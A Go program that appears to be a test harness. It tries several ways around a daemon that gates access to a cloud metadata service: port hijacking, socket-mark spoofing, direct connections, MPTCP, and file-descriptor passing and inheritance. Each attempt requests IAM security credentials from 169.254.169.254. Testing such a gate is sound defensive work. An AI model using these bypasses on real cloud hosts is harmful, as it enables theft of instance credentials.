// Command attacker is an ordinary user's program that tries to get round the
// gate. It prints what it achieved.
package main

import (
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"syscall"
	"time"
)

func main() {
	ways := map[string]func([]string) error{
		"ask": ask, "hold": hold, "bind": bind, "mark": mark, "direct": direct, "multipath": multipath, "flight": flight, "inherit": inherit,
	}
	way := ways[os.Args[1]]
	if way == nil {
		fmt.Fprintln(os.Stderr, "no such way")
		os.Exit(2)
	}
	if err := way(os.Args[2:]); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

// ask asks as an honest program does.
func ask(args []string) error {
	fd, err := connect(0)
	if err != nil {
		return err
	}
	if _, err := syscall.Write(fd, request(args[0])); err != nil {
		return err
	}
	return show(fd)
}

// hold connects, says from where, and stays until its input ends.
func hold([]string) error {
	fd, err := connect(0)
	if err != nil {
		return err
	}
	name, err := syscall.Getsockname(fd)
	if err != nil {
		return err
	}
	local := name.(*syscall.SockaddrInet4)
	fmt.Println(net.JoinHostPort(net.IP(local.Addr[:]).String(), fmt.Sprint(local.Port)))
	_, err = io.Copy(io.Discard, os.Stdin)
	return err
}

// bind tries to take the daemon's ports and answer in its place.
func bind([]string) error {
	tried, got := 0, 0
	for _, port := range []int{254, 253} {
		for _, host := range []string{"127.0.0.1", "0.0.0.0", "::1", "::", "169.254.213.80", "fd69:6d64:7367::80"} {
			for _, option := range []int{0, syscall.SO_REUSEADDR, 15 /* SO_REUSEPORT */} {
				tried++
				fd, err := syscall.Socket(family(host), syscall.SOCK_STREAM, 0)
				if err != nil {
					return err
				}
				if option != 0 {
					syscall.SetsockoptInt(fd, syscall.SOL_SOCKET, option, 1)
				}
				if syscall.Bind(fd, address(host, port)) == nil && syscall.Listen(fd, 1) == nil {
					got++
					fmt.Println("bound", net.JoinHostPort(host, fmt.Sprint(port)))
				}
				syscall.Close(fd)
			}
		}
	}
	fmt.Printf("%d of %d attempts to bind\n", got, tried)
	return nil
}

func family(host string) int {
	if net.ParseIP(host).To4() != nil {
		return syscall.AF_INET
	}
	return syscall.AF_INET6
}

func address(host string, port int) syscall.Sockaddr {
	ip := net.ParseIP(host)
	if v4 := ip.To4(); v4 != nil {
		return &syscall.SockaddrInet4{Port: port, Addr: [4]byte(v4)}
	}
	return &syscall.SockaddrInet6{Port: port, Addr: [16]byte(ip)}
}

// mark tries to pass as the daemon by its mark.
func mark([]string) error {
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	const soMark = 36
	if err := syscall.SetsockoptInt(fd, syscall.SOL_SOCKET, soMark, 0x7fff0815); err != nil {
		return fmt.Errorf("set the mark: %w", err)
	}
	if err := syscall.Connect(fd, address("169.254.169.254", 80)); err != nil {
		return fmt.Errorf("connect with the mark: %w", err)
	}
	return talk(fd)
}

// direct talks to the daemon's own port.
func direct(args []string) error {
	fd, err := syscall.Socket(family(args[0]), syscall.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	port := 254
	if args[0] == "169.254.213.80" || args[0] == "fd69:6d64:7367::80" {
		port = 253
	}
	if err := syscall.Connect(fd, address(args[0], port)); err != nil {
		return fmt.Errorf("connect to the daemon's port: %w", err)
	}
	return talk(fd)
}

func connect(protocol int) (int, error) {
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, protocol)
	if err != nil {
		return -1, err
	}
	return fd, syscall.Connect(fd, address("169.254.169.254", 80))
}

// multipath speaks MPTCP.
func multipath([]string) error {
	const mptcp = 262 // IPPROTO_MPTCP
	fd, err := connect(mptcp)
	if err != nil {
		return err
	}
	return talk(fd)
}

func request(token string) []byte {
	return []byte("GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nX-aws-ec2-metadata-token: " + token + "\r\nConnection: close\r\n\r\n")
}

// flight sends a request, hides the socket in a message to itself while it is
// judged, and takes it back for the answer.
func flight(args []string) error {
	fd, err := connect(0)
	if err != nil {
		return err
	}
	pair, err := syscall.Socketpair(syscall.AF_UNIX, syscall.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	half := request(args[0])
	if _, err := syscall.Write(fd, half[:len(half)-2]); err != nil {
		return err
	}
	dup, err := syscall.Dup(fd)
	if err != nil {
		return err
	}
	if err := syscall.Sendmsg(pair[0], []byte{0}, syscall.UnixRights(fd), nil, 0); err != nil {
		return err
	}
	syscall.Close(fd)
	if _, err := syscall.Write(dup, half[len(half)-2:]); err != nil {
		return err
	}
	syscall.Close(dup)
	time.Sleep(300 * time.Millisecond)
	oob := make([]byte, 64)
	_, n, _, _, err := syscall.Recvmsg(pair[1], make([]byte, 1), oob, 0)
	if err != nil {
		return err
	}
	messages, err := syscall.ParseSocketControlMessage(oob[:n])
	if err != nil {
		return err
	}
	back, err := syscall.ParseUnixRights(&messages[0])
	if err != nil {
		return err
	}
	return show(back[0])
}

// inherit lets a granted program hold the socket, too, and sends the request
// itself.
func inherit(args []string) error {
	fd, err := connect(0)
	if err != nil {
		return err
	}
	cmd := exec.Command(args[1])
	cmd.ExtraFiles = []*os.File{os.NewFile(uintptr(fd), "socket")}
	in, err := cmd.StdinPipe()
	if err != nil {
		return err
	}
	if err := cmd.Start(); err != nil {
		return err
	}
	defer cmd.Wait()
	defer in.Close()
	if _, err := syscall.Write(fd, request(args[0])); err != nil {
		return err
	}
	return show(fd)
}

func show(fd int) error {
	b := make([]byte, 4096)
	n, err := syscall.Read(fd, b)
	if err != nil {
		return err
	}
	fmt.Printf("%s\n", b[:n])
	return nil
}

func talk(fd int) error {
	if _, err := syscall.Write(fd, []byte("GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n")); err != nil {
		return err
	}
	return show(fd)
}
